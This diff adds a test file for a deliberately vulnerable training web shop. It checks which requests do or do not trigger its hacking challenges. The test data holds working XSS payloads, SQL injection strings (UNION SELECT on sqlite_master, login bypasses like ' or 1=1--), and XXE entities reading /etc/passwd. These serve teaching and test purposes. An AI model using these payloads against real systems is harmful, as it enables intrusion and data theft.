@@ -1,0 +1,429 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { createSigner } from 'fast-jwt'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { tamperedProduct } from '../../../../../packages/catalogue/challenges/change-product/tampered-product.ts'
+import { stillClock } from '../../proofs/trial.ts'
+import {
+  type Act,
+  type Actor,
+  asCustomer,
+  comment,
+  get,
+  head,
+  login,
+  register,
+  review,
+  say,
+  search,
+  show,
+  track,
+  upload,
+  xml,
+} from '../../testing/acts.ts'
+import { openTestApp, type TestApp } from '../../testing/test-app.ts'
+
+let testApp: TestApp
+let webFolder: string
+beforeAll(async () => {
+  webFolder = mkdtempSync(join(tmpdir(), 'fruit-web-'))
+  writeFileSync(join(webFolder, 'index.html'), '<!doctype html><title>%TITLE%</title><!--boot-->')
+  testApp = await openTestApp({ clock: stillClock(), webFolder })
+})
+afterAll(async () => {
+  await testApp.close()
+  rmSync(webFolder, { recursive: true })
+})
+
+/** What an act solves in a new world. */
+async function solvedBy(act: Act): Promise<string[]> {
+  const learner = testApp.learner()
+  await act({ testApp, learner, client: learner.client() })
+  return learner.solved()
+}
+
+const PDF = '%PDF-1.7\n%%EOF'
+const AGENT = 'user-agent'
+/** A token that has ended, of this world or another. */
+const ended = (path: string): Act => {
+  const token = createSigner({ key: 'somebody', algorithm: 'HS256', expiresIn: 1, clockTimestamp: 1 })({
+    data: { id: 1 },
+  })
+  return get(path, { authorization: `Bearer ${token}`, accept: 'application/json' })
+}
+
+/** Writes a description for the product whose link is to be changed. @param write with the old address and the new one */
+const describe = (write: (from: string, to: string) => string, id = 0): Act => {
+  return ({ client, learner }: Actor) => {
+    const product = learner.inside(({ configuration }) => tamperedProduct(configuration))
+    return client.put(`/api/Products/${product.id + id}`, { description: write(product.original, product.address) })
+  }
+}
+
+const addProduct = (description: string): Act =>
+  asCustomer(({ client }) => client.post('/api/Products', { name: 'Windfall Punch', price: 3.5, description }))
+const basketItem = (body: (own: number) => string): Act =>
+  asCustomer(({ client }, { basketId }) =>
+    client.post('/api/BasketItems', body(basketId), { headers: { 'content-type': 'application/json' } }),
+  )
+const upgrade = (body: object): Act => asCustomer(({ client }) => client.post('/rest/deluxe-membership', body))
+const follow = (to: string): Act => get(`/redirect?to=${encodeURIComponent(to)}`)
+
+const BITCOIN = 'https://blockchain.info/address/1AbKfgvw9psQ41NbLi8kufDQTezwG8DRZm'
+
+/** What people, browsers and programs do without meaning any harm. It must solve nothing. */
+const HONEST: readonly (readonly [title: string, act: Act])[] = [
+  // Browsers and their tools, on their own.
+  ['developer tools look for a workspace', get('/.well-known/appspecific/com.chrome.devtools.json')],
+  ['a browser looks for the page that changes a password', get('/.well-known/change-password')],
+  [
+    'a password manager probes for a page that is not there',
+    get('/.well-known/resource-that-should-not-exist-whose-status-code-should-not-be-200'),
+  ],
+  ['a browser looks for passkeys', get('/.well-known/passkey-endpoints', { accept: 'application/json' })],
+  ['a phone looks for the app of the shop', get('/.well-known/apple-app-site-association')],
+  ['a phone of another make looks for the app', get('/.well-known/assetlinks.json', { accept: 'text/html' })],
+  ['a browser wants the icon', get('/favicon.ico')],
+  ['a phone wants a larger icon', get('/apple-touch-icon.png')],
+  ['a robot reads its rules', get('/robots.txt')],
+  ['a robot looks for a map', get('/sitemap.xml')],
+  ['a browser looks for a worker', get('/service-worker.js')],
+  ['developer tools look for the sources', get('/assets/main.js.map')],
+  ['a picture is gone', get('/assets/public/images/uploads/gone.png')],
+  // Who is no longer signed in, or never was.
+  ['a tab from yesterday asks for its basket', ended('/rest/basket/1')],
+  ['a tab from yesterday asks for its orders', ended('/rest/order-history')],
+  ['a tab from yesterday asks for its wallet', ended('/rest/wallet/balance')],
+  ['a tab from yesterday asks for all accounts', ended('/api/Users')],
+  [
+    'a tab from yesterday asks for its cards as a page',
+    get('/api/Cards', { accept: 'text/html', authorization: 'Bearer x.y.z' }),
+  ],
+  ['somebody opens the profile without signing in', get('/profile')],
+  ['somebody opens the profile with an old cookie', get('/profile', { cookie: 'token=x.y.z', accept: 'text/html' })],
+  ['somebody opens the erasure page without signing in', get('/dataerasure')],
+  [
+    'somebody changes a password without signing in',
+    get('/rest/user/change-password?current=a&new=bbbbb&repeat=bbbbb'),
+  ],
+  ['a visitor asks who they are', get('/rest/user/whoami')],
+  ['a customer asks for what is for accounting', asCustomer(({ client }) => client.get('/rest/order-history/orders'))],
+  // Refused uploads.
+  ['an invoice as a picture', upload('invoice.pdf', 'GIF89a')],
+  ['an invoice without a file', ({ client }) => client.post('/file-upload', new FormData())],
+  ['an invoice that is far too large', upload('invoice.pdf', `${PDF}${' '.repeat(200_001)}`)],
+  [
+    'a profile picture that is a text',
+    asCustomer(({ client }) => {
+      const form = new FormData()
+      form.append('file', new Blob(['hello']), 'me.png')
+      return client.post('/profile/image/file', form)
+    }),
+  ],
+  ['an invoice with an ending in capitals', upload('INVOICE.PDF', PDF)],
+  ['the largest invoice that the form takes', upload('invoice.pdf', PDF + ' '.repeat(100_000 - PDF.length))],
+  // Monitoring.
+  ...[
+    'Prometheus/2.50.0',
+    'vm_promscrape',
+    'Telegraf/1.30.0 Go/1.22',
+    'Datadog Agent/7.52.0',
+    'Elastic-Metricbeat/8.13.0 (linux; amd64)',
+    'Zabbix 6.4',
+    'GrafanaAgent/v0.40.0',
+    'Uptime-Kuma/1.23.11',
+    'OpenTelemetry Collector Contrib/0.97.0',
+    'kube-probe/1.29',
+  ].map((agent): readonly [string, Act] => [`${agent} reads the figures`, get('/metrics', { [AGENT]: agent })]),
+  // Heads of answers, which show nothing.
+  ['a link checker looks whether a basket is there', head(() => '/rest/basket/1')],
+  ['a link checker looks whether figures are there', head(() => '/metrics')],
+  ['a link checker looks whether a document is there', head(() => '/ftp/acquisitions.md')],
+  ['a link checker looks for whom to tell', head(() => '/.well-known/security.txt')],
+  ['a link checker meets a path that is gone', head(() => '/rest/nowhere')],
+  ['a link checker asks who it is', head(() => '/rest/user/whoami?fields=password')],
+  ['a preview of a link loads the picture of a screen', head(() => '/assets/public/images/padding/1px.png')],
+  // Reviews and words.
+  [
+    'a visitor signs as Anonymous',
+    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: 'Anonymous' }),
+  ],
+  [
+    'a visitor signs as ANONYMOUS',
+    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: 'ANONYMOUS' }),
+  ],
+  ['a customer signs with the own e-mail', review((own) => own)],
+  ['a customer signs with the own e-mail in capitals', review((own) => own.toUpperCase())],
+  ['a customer signs with the own e-mail and a blank behind it', review((own) => `${own} `)],
+  ['a customer stays anonymous', review(() => 'Anonymous')],
+  ['a customer whose e-mail has an apostrophe registers', register("pat.o'hare@customer.test")],
+  ['a customer whose e-mail has a plus registers', register('pip+shop@customer.test')],
+  ['a customer with an umlaut registers', register('jürgen@customer.test')],
+  ['a complaint about an attachment', comment('My invoice came as base64 text')],
+  ['thanks for a checksum', comment('The md5sum of the download fits, thank you (anonymous)')],
+  ['a question about an attachment', comment('Could you send the picture as Base64 next time, please?')],
+  ['a comment with an apostrophe', comment("Jim's favourite: it's crisp!")],
+  ['a comment with signs of mathematics', comment('2 < 3 && 5 > 4; sweet & sour -- crisp')],
+  ['a comment in capitals with one star', say({ comment: 'NEVER AGAIN', rating: 1 })],
+  ['a search for what costs less', show('juice < 3 & > 1')],
+  ['a search with bold letters', show('<b>apple</b>')],
+  ['a search for a frame', show('<iframe src="https://fruit.test/">')],
+  ['a search with a percent sign', search('100% juice_')],
+  ['a search with double quotes and umlauts', search('"Äpfel" – süß')],
+  ['an order number that is not there', track('5267-f73dcd000abcc353')],
+  ['a link that the shop has', follow('https://github.com/juice-shop/juice-shop')],
+  ['a wrong password', login('admin@', 'wrong')],
+  ['a wrong password with an apostrophe inside a name', login('nobody@customer.test', "it's")],
+  [
+    'one wish less than the bot grants',
+    asCustomer(({ client }) => client.post('/rest/chatbot/respond', { action: 'query', query: 'hello' })),
+  ],
+]
+
+/** The payload's element in other spellings. */
+const FRAMES: readonly string[] = [
+  '<IFRAME SRC="javascript:alert(`xss`)">',
+  "<iframe src='javascript:alert(`xss`)'>",
+  '<iframe src=javascript:alert(`xss`)>',
+  '<iframe  src = "javascript:alert(`xss`)" >',
+  '<iframe src="javascript:alert(`xss`)"/>',
+  '<iframe/src="javascript:alert(`xss`)">',
+  '<iframe\tsrc="JavaScript:alert(`xss`)">',
+  '<iframe src="javascript:alert(`xss`)"></iframe>',
+]
+const LONG_FRAMES: readonly string[] = [
+  'Apple <iframe width="1" src="javascript:alert(`xss`)" height="1">',
+  '<iframe src=" javascript: alert(`xss`); ">',
+  '<iframe src="java\nscript:alert(`xss`)">',
+  '<iframe src="&#106;avascript&colon;alert(&#96;xss&#96;)">',
+  '<p><iframe src="javascript:alert(%60xss%60)">',
+]
+const each = (key: string, payloads: readonly string[], act: (payload: string) => Act) =>
+  payloads.map((payload) => [key, payload, act(payload)] as const)
+
+const union = (columns: string, rest = '') => search(`qwert')) UNION SELECT ${columns} FROM sqlite_master ${rest}--`)
+/** Each definition by a request of its own. */
+const oneByOne =
+  (ask: (offset: number) => Act): Act =>
+  async (actor) => {
+    const { n } = actor.learner.inside(({ db }) =>
+      db.first<{ n: number }>({ sql: "SELECT count(*) n FROM sqlite_master WHERE type = 'table'", parameters: [] }),
+    )!
+    for (let offset = 0; offset < n; offset++) await ask(offset)(actor)
+  }
+const TABLES = "WHERE type='table'"
+
+/** Other ways to write what solves a challenge. Each must solve it. */
+const SPELLINGS: readonly (readonly [key: string, title: string, act: Act])[] = [
+  ...each('localXssChallenge', [...FRAMES, ...LONG_FRAMES], show),
+  ...each('reflectedXssChallenge', FRAMES, track),
+  ...each('restfulXssChallenge', [...FRAMES, ...LONG_FRAMES], addProduct),
+  ...each('persistedXssUserChallenge', [...FRAMES, LONG_FRAMES[1]!, LONG_FRAMES[3]!], (payload) => register(payload)),
+  [
+    'xssBonusChallenge',
+    'with capitals',
+    async (actor) => {
+      const payload = actor.learner.inside(({ configuration }) => configuration.challenges.xssBonusPayload)
+      await show(payload.replace('<iframe', '<IFRAME').replace('src=', 'SRC = '))(actor)
+    },
+  ],
+  ['changeProductChallenge', 'single quotes', describe((_, to) => `<a href='${to}' target='_blank'>More</a>`)],
+  ['changeProductChallenge', 'no quotes', describe((_, to) => `<a href=${to} target=_blank>More</a>`)],
+  ['changeProductChallenge', 'another order', describe((_, to) => `<a target="_blank" href="${to}">More</a>`)],
+  [
+    'changeProductChallenge',
+    'with rel',
+    describe((_, to) => `<a href="${to}" rel="noopener" target="_blank">More</a>`),
+  ],
+  ['changeProductChallenge', 'capitals', describe((_, to) => `<A HREF="${to}" TARGET="_BLANK">More</A>`)],
+  ['changeProductChallenge', 'a slash more', describe((_, to) => `<a href="${to}/" target="_blank">More</a>`)],
+  [
+    'changeProductChallenge',
+    'the old address as a text',
+    describe((from, to) => `Not ${from}, but <a href="${to}" target="_blank">More</a>`),
+  ],
+  [
+    'dbSchemaChallenge',
+    'one per request',
+    oneByOne((n) => union("sql,'2','3','4','5','6','7','8','9'", `${TABLES} LIMIT 1 OFFSET ${n}`)),
+  ],
+  [
+    'dbSchemaChallenge',
+    'by table names',
+    async (actor) => {
+      const names = actor.learner.inside(({ db }) =>
+        db.all<{ name: string }>({ sql: "SELECT name FROM sqlite_master WHERE type = 'table'", parameters: [] }),
+      )
+      for (const { name } of names) await union('1,sql,3,4,5,6,7,8,9', `WHERE name='${name}'`)(actor)
+    },
+  ],
+  [
+    'dbSchemaChallenge',
+    'through the login',
+    oneByOne((n) =>
+      login(
+        `' UNION SELECT 999,'pip',sql,'x','customer','','0.0.0.0','','',1,'2024','2024',NULL FROM sqlite_master ${TABLES} LIMIT 1 OFFSET ${n}--`,
+      ),
+    ),
+  ],
+  ['dbSchemaChallenge', 'hex', union('hex(sql),2,3,4,5,6,7,8,9')],
+  ['dbSchemaChallenge', 'upper', union('1,upper(sql),3,4,5,6,7,8,9')],
+  ['dbSchemaChallenge', 'lower', union('1,2,lower(sql),4,5,6,7,8,9')],
+  ['dbSchemaChallenge', 'replace of blanks', union("1,replace(sql,' ','_'),3,4,5,6,7,8,9")],
+  ['dbSchemaChallenge', 'replace of quotes', union(`1,replace(replace(sql,'"',''),char(10),'|'),3,4,5,6,7,8,9`)],
+  ['dbSchemaChallenge', 'all in one value', union("1,group_concat(sql,'~'),3,4,5,6,7,8,9")],
+  ['dbSchemaChallenge', 'as JSON', union('1,json_group_array(sql),3,4,5,6,7,8,9')],
+  ['dbSchemaChallenge', 'quoted', union('1,quote(sql),3,4,5,6,7,8,9')],
+  [
+    'dbSchemaChallenge',
+    'with a comment that is left open',
+    search("x')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_schema/*"),
+  ],
+  ['loginAdminChallenge', "' or 1=1--", login("' or 1=1--")],
+  ['loginAdminChallenge', "' OR true;", login("' OR true;")],
+  ['loginAdminChallenge', "' or 1 /*", login("' or 1 /*")],
+  ['loginAdminChallenge', 'by the address', login("admin@'--")],
+  ['loginAdminChallenge', 'by the address and a comment that is left open', login("admin@'/*")],
+  ['loginAdminChallenge', 'by the role', login("' or role='admin'--")],
+  ['loginAdminChallenge', 'by like', login("' or email like 'admin@%'--")],
+  ['loginAdminChallenge', 'by the right password, as the interface has it', login('admin@', 'admin123')],
+  ['loginJimChallenge', 'by the address', login("jim@'--")],
+  ['loginJimChallenge', 'by the address and a semicolon', login("jim@';")],
+  ['loginJimChallenge', 'by like', login("' or email like 'jim@%'--")],
+  ['loginBenderChallenge', 'by the address', login("bender@'--")],
+  ['loginBenderChallenge', 'by the address and a comment that is left open', login("bender@'/*")],
+  ['ghostLoginChallenge', 'by what is closed', login("' or deletedAt is not null--")],
+  ['xxeFileDisclosureChallenge', 'file:///C:\\Windows\\system.ini', xml('file:///C:\\Windows\\system.ini')],
+  ['xxeFileDisclosureChallenge', 'C:\\WINDOWS\\System.ini', xml('C:\\WINDOWS\\System.ini')],
+  ['xxeFileDisclosureChallenge', 'file:///c:/windows/SYSTEM.INI', xml('file:///c:/windows/SYSTEM.INI')],
+  ['xxeFileDisclosureChallenge', 'FILE:/etc/passwd', xml('FILE:/etc/passwd')],
+  ['xxeFileDisclosureChallenge', '../../../etc/passwd', xml('../../../etc/passwd')],
+  [
+    'xxeFileDisclosureChallenge',
+    'a public name',
+    xml('file:///etc/passwd', `<!DOCTYPE o [<!ENTITY x PUBLIC "a" 'ADDRESS'>]><o>&x;</o>`),
+  ],
+  ['deprecatedInterfaceChallenge', 'capitals', upload('ORDER.XML', '<order/>', 'text/plain')],
+  ['errorHandlingChallenge', 'an apostrophe in the search', search("O'Brien")],
+  ['errorHandlingChallenge', 'a quote in the search', search("';")],
+  ['errorHandlingChallenge', 'a quote in the login', login("'")],
+  ['errorHandlingChallenge', 'an unknown path below /api', get('/api/nowhere')],
+  ['errorHandlingChallenge', 'an unknown path as JSON', get('/rest/nowhere', { accept: 'application/json' })],
+  ['errorHandlingChallenge', 'a document of another kind', get('/ftp/easter.egg')],
+  [
+    'errorHandlingChallenge',
+    'JSON that ends too soon',
+    ({ client }) => client.post('/rest/user/login', '{"email', { headers: { 'content-type': 'application/json' } }),
+  ],
+  ...each(
+    'weirdCryptoChallenge',
+    [
+      'md5',
+      'Base64?',
+      'You should not hash passwords with MD5!',
+      'Hashids is no cipher.',
+      'Bitte keine Gutscheine mit z85 mehr',
+      'Votre mot de passe est en md5, trop faible',
+      '不要用 md5 存密码',
+      'Coupons in base85 are not safe (***in@fruit.test)',
+    ],
+    comment,
+  ),
+  ['forgedReviewChallenge', 'another customer', review((_, domain) => `jim@${domain}`)],
+  ['forgedReviewChallenge', 'another customer in capitals', review((_, domain) => `JIM@${domain}`.toUpperCase())],
+  [
+    'forgedReviewChallenge',
+    'without signing in',
+    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: `admin@${client.domain}` }),
+  ],
+  ['zeroStarsChallenge', 'as a text', say({ rating: '0' })],
+  [
+    'registerAdminChallenge',
+    'with more columns',
+    register('pip@customer.test', { role: 'admin', isActive: true, username: 'pip' }),
+  ],
+  ['basketAccessChallenge', 'with a slash', asCustomer(({ client }) => client.get('/rest/basket/2/'))],
+  [
+    'basketManipulateChallenge',
+    'numbers',
+    basketItem((own) => `{"ProductId":14,"BasketId":${own},"quantity":1,"BasketId":2}`),
+  ],
+  ['directoryListingChallenge', 'encoded', get('/ftp/acquisition%73.md')],
+  ['redirectCryptoCurrencyChallenge', 'with a port', follow(BITCOIN.replace('.info', '.info:443'))],
+  ['exposedMetricsChallenge', 'curl', get('/metrics', { [AGENT]: 'curl/8.5.0' })],
+  ['exposedMetricsChallenge', 'without a name', get('/metrics', { [AGENT]: '' })],
+  ['exposedMetricsChallenge', 'a browser', get('/metrics/', { [AGENT]: 'Mozilla/5.0 (X11; Linux x86_64)' })],
+  ['uploadTypeChallenge', 'capitals', upload('INVOICE.HTML', 'hello', 'text/html')],
+  ['uploadSizeChallenge', 'a byte too many', upload('invoice.pdf', PDF + ' '.repeat(100_001 - PDF.length))],
+  ['freeDeluxeChallenge', 'an empty mode', upgrade({ paymentMode: '' })],
+  ['freeDeluxeChallenge', 'a mode of one’s own', upgrade({ paymentMode: 'applause' })],
+  ['securityPolicyChallenge', 'in the older place', get('/security.txt')],
+  [
+    'bullyChatbotChallenge',
+    'whoever gets a coupon',
+    asCustomer(async ({ client }) => {
+      await client.post('/rest/chatbot/respond', { action: 'setname', query: 'Pip' })
+      const wish = { action: 'query', query: 'May I have a coupon?' }
+      // One answer in nine is a coupon.
+      for (let asked = 0; asked < 200; asked++)
+        if (/10\s?%/.test((await client.post('/rest/chatbot/respond', wish)).json().body)) return
+    }),
+  ],
+]
+
+/** What nearly solves a challenge, and what the player is told. */
+const NEARLY: readonly (readonly [key: string, told: RegExp, act: Act])[] = [
+  [
+    'localXssChallenge',
+    /^A script of yours ran\. The task asks for this text: <iframe src=/,
+    show('<img src=x onerror=alert(1)>'),
+  ],
+  ['localXssChallenge', /^A script of yours ran/, show('<iframe src="javascript:alert(1)">')],
+  ['reflectedXssChallenge', /^A script of yours ran/, track('<svg onload=alert(1)>')],
+  ['restfulXssChallenge', /^A script of yours ran/, addProduct('<img src=x onerror=alert(1)>')],
+  ['persistedXssUserChallenge', /^A script of yours ran/, register('<img src=x onerror=alert(1)>')],
+  ['dbSchemaChallenge', /^You have read 1 of \d+ definitions/, union('sql,2,3,4,5,6,7,8,9', "WHERE name='Users'")],
+  [
+    'changeProductChallenge',
+    /beside the old one/,
+    describe((from, to) => `<a href="${from}">Old</a> <a href="${to}" target="_blank">New</a>`),
+  ],
+  [
+    'changeProductChallenge',
+    /asks for this text: <a href="[^"]+" target="_blank">$/,
+    describe((_, to) => `<a href="${to}">New</a>`),
+  ],
+  ['xxeFileDisclosureChallenge', /^You have read \/etc\/hostname\./, xml('file:///etc/hostname')],
+  ['weirdCryptoChallenge', /^You named md5\./, comment('The md5 sum of my download fits, thank you')],
+  [
+    'registerAdminChallenge',
+    /sent, accounting\. The task asks for admin\.$/,
+    register('pip@customer.test', { role: 'accounting' }),
+  ],
+  ['forgedReviewChallenge', /signed by pip@nowhere\.test/, review(() => 'pip@nowhere.test')],
+]
+
+it.each(NEARLY)('tells whoever nearly solves %s: %s', async (key, told, act) => {
+  const learner = testApp.learner()
+  const heard: { key: string; words: string }[] = []
+  testApp.app.backend.events.subscribe('nearlySolved', (world, inLanguage) => {
+    if (world === learner.id) heard.push(inLanguage('en'))
+  })
+  await act({ testApp, learner, client: learner.client() })
+  expect(heard).toEqual([expect.objectContaining({ key, words: expect.stringMatching(told) })])
+  expect(await learner.solved()).not.toContain(key)
+})
+
+it('names enough of both', () => {
+  expect(HONEST.length).toBeGreaterThanOrEqual(60)
+  expect(SPELLINGS.length).toBeGreaterThanOrEqual(100)
+})
+
+it.each(HONEST)('solves nothing when %s', async (_title, act) => {
+  expect(await solvedBy(act)).toEqual([])
+})
+
+it.each(SPELLINGS)('solves %s by %j', async (key, _title, act) => {
+  expect(await solvedBy(act)).toContain(key)
+})
